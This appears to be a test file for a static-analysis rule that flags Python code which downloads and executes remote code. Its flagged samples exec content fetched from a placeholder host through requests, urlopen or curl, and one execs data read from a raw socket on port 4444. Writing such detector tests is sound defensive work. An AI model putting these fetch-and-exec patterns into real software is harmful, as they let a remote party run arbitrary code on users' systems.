import socket
import subprocess
import urllib.request
from urllib.request import urlopen

import requests

URL = "https://example.invalid/stage.py"

# ruleid: exec-downloaded-code
exec(requests.get(URL).text)

resp = urlopen(URL)
body = resp.read().decode()
# ruleid: exec-downloaded-code
exec(body)

# ruleid: exec-downloaded-code
exec(__import__("requests").get(URL).content)

# ruleid: exec-downloaded-code
exec(subprocess.getoutput("curl -s https://example.invalid/x.py"))

s = socket.socket()
s.connect(("203.0.113.5", 4444))
data = s.recv(4096)
# ruleid: exec-downloaded-code
exec(data, {"s": s})

# ok: exec-downloaded-code
meta = requests.get(URL).json()

version = urllib.request.urlopen(URL).read()
# ok: exec-downloaded-code
print(version)

# ok: exec-downloaded-code
eval("1 + 1")
